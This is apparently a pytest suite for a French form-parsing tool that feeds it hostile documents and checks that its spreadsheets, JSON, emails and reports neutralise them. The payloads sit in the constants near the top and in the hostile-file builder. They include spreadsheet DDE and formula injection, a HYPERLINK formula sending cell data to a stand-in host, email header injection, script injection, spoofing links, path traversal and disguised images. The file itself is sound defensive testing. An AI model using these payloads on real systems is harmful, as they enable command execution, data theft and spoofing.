"""What a stranger writes in a document runs nothing, leads nowhere and steers no screen, in any output.

A batch of hostile documents goes the whole way, and every output is read back as whoever it is for would read it.
"""

from __future__ import annotations

import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Iterator
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import unquote
from xml.etree import ElementTree as ET

import pytest
from builders import contact, fiche
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from packages import GOOD, LABELS, docx, form_docx, p, packed, r, table

from ficheparse import form
from ficheparse.cli import main
from ficheparse.fiche import Fiche
from ficheparse.issues import issue
from ficheparse.report import FORMATS
from ficheparse.seen import READ, SEEN
from ficheparse.sheets.cells import MOST_CHARACTERS, Painter
from ficheparse.write.followup import followup
from ficheparse.write.sheet import _cell

FORM = form.load()
FORMULAS = [
    *("=1+2", "+3+4", "-5*6", "@SUM(1+9)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "＝1+2", "＋3", "－4", "＠SUM(1)"),
    *('=HYPERLINK("http://hostile.example/?"&A1,"cliquer")', '=DDE("cmd";"/C calc";"x")', "\t=7+8", "\u202e=9+9"),
]
STEERING = "Tours\u202egpj.exe\u202c\u2066a\u2069 \x9b31mrouge\x85 _x0041_ \u2028fin"
"""Turns its letters round, paints a terminal red, and breaks a line."""
ENCODED = "=?utf-8?q?Tours=0D=0ABcc:_espion@hostile.example=0D=0A?="
MARKUP = "Mot </script><script>alert(1)</script><!-- ]]> \"'&amp;"
PATHS = ["../../sorti.docx", "C:\\fiches\\CON.docx", "=cmd|' /C calc'!A0.docx", "\u202egpj.exe.docx"]
PATHS += ["a\n::error::b\x1b[2J.docx", "a\u2028b\x9b2J.docx", "n" * 300 + ".docx", MARKUP.replace("/", "") + ".docx"]
LINKS = {
    "script": "javascript:alert(1)",
    "tab": "java\tscript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "file": "file:///c:/windows/win.ini",
    "share": "\\\\hostile.example\\share",
    "office": "ms-word:ofe|u|http://hostile.example/x.dotm",
    "user": "https://ville.example:secret@hostile.example/",
    "back": "https://ville.example\\@hostile.example/",
    "turned": "https://ville.example/\u202egpj.exe",
    "lines": "http://ville.example/a\u0085b c",
    "alike": "https://www.\u0430ngers.example/",
    "long": "https://ville.example/" + "a" * 3_000,
    "mail": "mailto:accueil@ville.example",
    "phone": "tel:+33261910042",
}
PNG = bytes.fromhex("89504e470d0a1a0a 0000000d49484452 00000030 00000020 0802000000") + b"<script>alert(1)</script>"
GIF = b"GIF89a/*\x01\x00\x00\x00\x00*/=alert(1)//"
FALSE_PICTURES = {
    "vector": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "page": b"<html><script>alert(1)</script></html>",
    "program": b"MZ" + bytes(90),
    "signature": PNG[:8],
    "empty": b"",
}
LETTERS = st.characters(exclude_categories=())
"""Any code point, halves of pairs too."""


def hostile_form(
    links: dict[str, str] | None = None, pictures: dict[str, bytes] | None = None, **answers: str
) -> bytes:
    """The form with these answers; each link in the cells of site, contact and map and as a point, each picture too."""
    labels, given = LABELS["fr"], {**GOOD, **answers}
    linked = "".join(f'<w:p><w:hyperlink r:id="{key}">{r(f"Voir {key}")}</w:hyperlink></w:p>' for key in links or {})
    shown = "".join(
        f'<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:embed="{key}"/>'
        "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
        for key in pictures or {}
    )
    rows = [
        [labels["name"], given["name"], labels["location"]],
        [labels["name"], "", linked or given["location"]],
        [labels["domains"], given["domains"], shown],
        [labels["population"], given["population"], ""],
        [labels["website"], linked or given["website"], ""],
        [labels["contact"], given["contact"] + linked if given["contact"].startswith("<w:") else given["contact"], ""],
    ]
    points = "".join(map(p, given["points"].split("\n")))
    body = p(labels["title"].format(given["title"])) + table(*rows) + p(labels["points"]) + points + linked
    parts: dict[str, bytes] = {f"media/{key}.png": data for key, data in (pictures or {}).items()}
    return docx(body + p(labels["updated"].format(given["updated"])), links=links, **parts)  # type: ignore[arg-type]


def with_twin_parts(name: str) -> bytes:
    """A package that is refused, for two of its parts have this name."""
    buffer = io.BytesIO(form_docx())
    with zipfile.ZipFile(buffer, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr(name, "a")
        archive.writestr(name, "b")
    return buffer.getvalue()


def hostile_files() -> dict[str, bytes]:
    long = "Le tramway \u202e" * 4_000
    members = {name: form_docx(name=f"Ville {number}", website="") for number, name in enumerate(PATHS)}
    mail = EmailMessage()
    mail["From"] = "espion@hostile.example"
    mail.set_content("bonjour")
    attached = form_docx(name="Ville jointe")
    mail.add_attachment(attached, "application", "octet-stream", filename="..\\..\\\u202egpj.docx")
    everywhere = dict.fromkeys(["title", "domains", "population", "contact", "points"], STEERING)
    return {
        "formules.docx": form_docx(
            name=FORMULAS[0], domains=", ".join(FORMULAS), points="\n".join(FORMULAS), contact="\n".join(FORMULAS)
        ),
        "sens.docx": form_docx(
            name=f"Ville de {STEERING}", website=STEERING, location=f"{STEERING} {GOOD['location']}", **everywhere
        ),
        "balises.docx": form_docx(name=f"Ville {MARKUP}", title=MARKUP, points=MARKUP, domains=MARKUP, website=""),
        "entete.docx": form_docx(
            name=ENCODED, title=ENCODED, website="", contact=f"Mme {ENCODED} Dupont, o\u2019neil@ma\u0131rie.example"
        ),
        "liens.docx": hostile_form(LINKS, name="Ville des liens", contact=p("Mme Dupont")),
        "images.docx": hostile_form(
            pictures={**FALSE_PICTURES, "true": PNG, "script": GIF}, name="Ville des images", website=""
        ),
        "longue.docx": form_docx(name="Ville " + "n" * 300, points=long, website=long, domains=long[:40_000]),
        "con.docx": form_docx(name="Con", website=""),
        "refusee.docx": with_twin_parts("word/\x1b[31m\u202e\x9b2J\n::error::x.xml"),
        "envois.zip": packed(members),
        "message.eml": bytes(mail),
    }


class Outputs(NamedTuple):
    inbox: Path
    folder: Path
    said: str
    records: list[Fiche]
    book: Workbook


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Outputs:
    here = tmp_path_factory.mktemp("hostile")
    (here / "inbox").mkdir()
    for name, data in hostile_files().items():
        (here / "inbox" / name).write_bytes(data)
    result = CliRunner().invoke(main, ["run", str(here / "inbox"), "-o", str(here / "output")], color=True)
    assert (result.exit_code, sorted(path.name for path in here.iterdir())) == (0, ["inbox", "output"])
    folder = here / "output"
    lines = (folder / "records.jsonl").read_text("utf-8").splitlines()  # which takes U+2028 for a line's end
    records = [Fiche.model_validate_json(line) for line in lines]
    return Outputs(here / "inbox", folder, result.output, records, load_workbook(folder / "fiches.xlsx"))


def steers(text: str, also: str = "\n") -> list[str]:
    """The characters of a text that a screen obeys or that turn others round."""
    marks = re.compile("[\u202a-\u202e\u2066-\u206f\u2028\u2029]")
    return [c for c in text if (unicodedata.category(c) in ("Cc", "Cs") or marks.match(c)) and c not in also]


def strings(value: Any) -> Iterator[str]:
    """Every text in what JSON gives, keys too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield from (text for pair in value.items() for part in pair for text in strings(part))
    elif isinstance(value, list):
        yield from (text for item in value for text in strings(item))


def test_every_document_gives_a_record_and_none_a_path(outputs: Outputs) -> None:
    assert len(outputs.records) == len(hostile_files()) - 2 + len(PATHS) + 1
    written = {path.relative_to(outputs.folder).as_posix() for path in outputs.folder.rglob("*") if path.is_file()}
    whole = {READ, SEEN, "fiches.xlsx", "records.jsonl", "fiches.json", "fiches.geojson", "fiche.schema.json"}
    assert whole < written
    name = re.compile(r"media/[0-9a-f]{16}\.(png|gif)|relances/_?[a-z0-9-]{1,120}\.eml")
    assert [other for other in written - whole if not name.fullmatch(other)] == []
    assert "relances/_con.eml" in written
    assert not any(".." in part or "\\" in part for one in outputs.records for part in one.source.file.split("/"))


def test_no_cell_is_a_formula_and_none_becomes_one_when_it_is_edited(outputs: Outputs) -> None:
    cells = [cell for sheet in outputs.book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    formulas = [cell for cell in texts if re.match("[=+@＝＋－＠-]", str(cell.value))]
    assert len(formulas) >= len(FORMULAS)
    assert all(cell.quotePrefix for cell in formulas)
    assert [cell.coordinate for cell in texts if steers(str(cell.value))] == []
    assert all(len(str(cell.value).encode("utf-16-le")) // 2 <= MOST_CHARACTERS for cell in texts)
    codes = [row[9].value for row in outputs.book["À vérifier"].iter_rows(min_row=2)]
    assert {"text-shortened", "characters-replaced", "unreadable", "picture-refused"} <= set(codes)


OUR_RULES = re.compile(
    r"""-?\d+|"[\w,éè]+"|'\w+'!\$A\$\d+:\$A\$\d+|LEN\(TRIM\([A-Z]+2\)\)=0|[A-Z]+2="\w+"|ISNUMBER\(FIND\("@",[A-Z]+2\)\)"""
    r"""|OR\((?:,?LEFT\([A-Z]+2,\d\)="[a-z:/]+")+\)"""
)
"""What lists, checks and marked gaps are made of: none of it is a document's."""


def test_the_workbooks_package_holds_nothing_that_runs_or_is_fetched(outputs: Outputs) -> None:
    with zipfile.ZipFile(outputs.folder / "fiches.xlsx") as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    hostile = re.compile("external|connection|comment|vba|ole|activex|embed|query|dde|customxml", re.IGNORECASE)
    assert [name for name in parts if hostile.search(name)] == []
    roots = {name: ET.fromstring(text) for name, text in parts.items()}  # noqa: S314 - our own
    tags = {(name, each.tag.rpartition("}")[2]) for name, root in roots.items() for each in root.iter()}
    formulas = {name for name, tag in tags if tag == "f"}
    assert all(name.startswith("xl/charts/") for name in formulas)
    assert not {tag for _, tag in tags} & {"ddeLink", "externalReference", "oleObject"}
    rules = {each.text for root in roots.values() for each in root.iter() if each.tag.endswith(("formula1", "formula"))}
    assert rules
    assert [rule for rule in rules if not OUR_RULES.fullmatch(rule or "")] == []
    for name, root in roots.items():
        for each in root.iter():
            if name.startswith("xl/charts/") and each.tag.endswith("}f"):
                assert re.fullmatch(r"'Synthèse'!\$[AB]\$\d+(:\$[AB]\$\d+)?", str(each.text))
            if each.tag.endswith("}definedName"):
                assert each.attrib["name"].startswith("_xlnm.Print_")
            if each.tag.endswith("}hyperlink"):
                assert not {"tooltip", "display"} & set(each.attrib)
            if each.attrib.get("TargetMode") == "External":
                assert re.match(r"(https?://|mailto:)[!-~]+$", each.attrib["Target"])
                assert len(each.attrib["Target"]) <= 2_079
    outside = "".join(text for name, text in parts.items() if "worksheets/" not in name)
    footers = "".join(re.findall("<oddFooter>.*?</oddFooter>", "".join(parts.values())))
    assert "Tours" not in outside + footers
    assert "hostile" not in outside + footers


def test_what_the_site_takes_can_be_shown_and_put_into_a_page(outputs: Outputs) -> None:
    for name in ("fiches.json", "fiches.geojson"):
        text = (outputs.folder / name).read_text("utf-8")
        assert not re.search("</script|<!--", text, re.IGNORECASE)
        assert steers(text) == []
        found = list(strings(json.loads(text)))
        assert [said for said in found if steers(said)] == []
        assert any("Toursgpj.exe" in said for said in found)
        assert any(f"Ville {MARKUP}" in said for said in found)
    (linked,) = [one for one in outputs.records if one.name == "Ville des liens"]
    assert linked.website == "https://hostile.example/"  # whose wording names another, were it one
    for record in outputs.records:
        sites = [record.website, *record.other_websites, record.location.map_url]
        assert all(re.fullmatch(r"https?://[a-z0-9.:-]+([/?#][!-~]*)?", site) for site in sites if site)
        for point in record.points:
            tags = re.findall("<[^>]*>", point.html)
            assert all(
                re.fullmatch(r'</?(b|i|sup|sub)>|</a>|<a href="(https?://|mailto:|tel:)[^"<>]+">', tag) for tag in tags
            )


def test_the_records_keep_what_was_written_and_steer_no_terminal(outputs: Outputs) -> None:
    (turned,) = [one for one in outputs.records if one.source.file == "sens.docx"]
    assert "\u202e" in turned.provenance["name"].raw
    assert "\x9b" in turned.provenance["name"].raw
    assert steers((outputs.folder / "records.jsonl").read_text("utf-8")) == []


def test_only_true_pictures_are_exported_with_the_ending_that_is_theirs(outputs: Outputs) -> None:
    media = {path.suffix: path.read_bytes() for path in (outputs.folder / "media").iterdir()}
    assert media == {".png": PNG, ".gif": GIF}
    (record,) = [one for one in outputs.records if one.name == "Ville des images"]
    refused = [found for found in record.issues if found.code == "picture-refused"]
    assert {found.text for found in refused} == {f"{key}.png" for key in FALSE_PICTURES}


def assert_safe(data: bytes) -> None:
    """A message has our headers only, addresses that are plain, and lines that mailers take."""
    message = message_from_bytes(data, _class=EmailMessage, policy=policy.default)
    ours = {"Subject", "X-Unsent", "Content-Type", "Content-Transfer-Encoding", "MIME-Version", "Content-Language"}
    assert set(message.keys()) - {"To"} == ours
    assert len(message.keys()) == len(set(message.keys()))
    assert all(not part.defects and not steers(str(part), "") for part in message.values())
    assert all(re.fullmatch(r"[!-~]+@[a-z0-9.-]+", one.addr_spec) for one in getattr(message["To"], "addresses", ()))
    assert not any(one.display_name for one in getattr(message["To"], "addresses", ()))
    assert all(len(line) <= 998 and b"\r" not in line and b"\n" not in line for line in data.split(b"\r\n"))
    assert steers(message.get_content(), "\r\n") == []


def test_a_message_is_written_to_nobody_else_and_says_nothing_else(outputs: Outputs) -> None:
    messages = [path.read_bytes() for path in (outputs.folder / "relances").iterdir()]
    assert len(messages) > len(PATHS)
    for data in messages:
        assert_safe(data)


def test_the_terminal_obeys_no_document(outputs: Outputs) -> None:
    assert steers(outputs.said) == []
    assert "::error::x.xml" in outputs.said  # shown, in its line
    ours = re.compile(r"$|\d+ (files?|errors?)\b|passed over|First to look at:$|  (error|warning|…) |In ")
    assert [line for line in outputs.said.splitlines() if not ours.match(line)] == []


@pytest.mark.parametrize("layout", FORMATS)
def test_no_report_obeys_a_document(outputs: Outputs, layout: str) -> None:
    result = CliRunner().invoke(main, ["validate", str(outputs.inbox), "--format", layout], color=True)
    assert steers(result.output) == []
    if layout == "github":
        assert {line.split(" ")[0] for line in result.output.splitlines()} <= {"::error", "::warning", "::notice"}
    if layout == "junit":
        said = ET.fromstring(result.output.encode())  # noqa: S314 - our own
        assert len(said.findall(".//testcase")) == len(outputs.records)
        assert not any(steers("".join([*each.attrib.values(), each.text or ""])) for each in said.iter())
    if layout in ("json", "sarif"):
        report = json.loads(result.output)
        assert not any(steers(message) for message in messages_of(report))
    if layout == "sarif":
        places = [found["locations"][0]["physicalLocation"] for found in report["runs"][0]["results"]]
        assert all(".." not in unquote(place["artifactLocation"]["uri"]).split("/") for place in places)


def messages_of(report: Any) -> list[str]:
    """Every message of a report in JSON, ours or SARIF's."""
    if isinstance(report, list):
        return [found for item in report for found in messages_of(item)]
    if not isinstance(report, dict):
        return []
    own = report.get("message", "")
    own = own["text"] if isinstance(own, dict) else own
    return [own, *(found for item in report.values() for found in messages_of(item))]


@given(st.text(LETTERS, max_size=60) | st.sampled_from([*FORMULAS, STEERING, MARKUP, "_x005F__x000D_", "𠮷" * 20_000]))
def test_any_text_is_a_text_in_a_cell(text: str) -> None:
    content = Painter(FORM, "fr", {}, {}).paint("text", "name", text)
    assert isinstance(content.value, str)
    cell = ET.fromstring(_cell("A", 1, content.value, 0, None))  # noqa: S314 - our own
    assert [each.tag for each in cell.iter()] == (["c", "is", "t"] if content.value else ["c"])
    shown = cell.findtext("is/t") or ""
    assert shown == content.value
    assert steers(shown) == []
    assert len(shown.encode("utf-16-le")) // 2 <= MOST_CHARACTERS
    assert cell.attrib.get("t", "inlineStr") == "inlineStr"


PIECES = st.sampled_from(
    [ENCODED, "=?x?q?=FF?=", "=?utf-8?b?4oCu?=", "=?", "\r\nBcc: a@hostile.example", "\n\n", "𠮷" * 300, STEERING, "="]
)


@given(st.lists(PIECES | st.text(LETTERS, max_size=20), max_size=5).map("".join), st.text(LETTERS, max_size=40))
def test_any_text_is_a_text_in_a_message(text: str, address: str) -> None:
    record = fiche(
        name=text,
        id="x",
        contacts=[contact(emails=["a@ville.example", address, f"a@ville.example\r\nBcc: {address}@hostile.example"])],
        issues=[issue("population-unclear", text=text), issue("website-missing", where=text)],
    )
    made = followup(record, FORM)
    assert made is not None
    data = made[1]
    assert_safe(data)
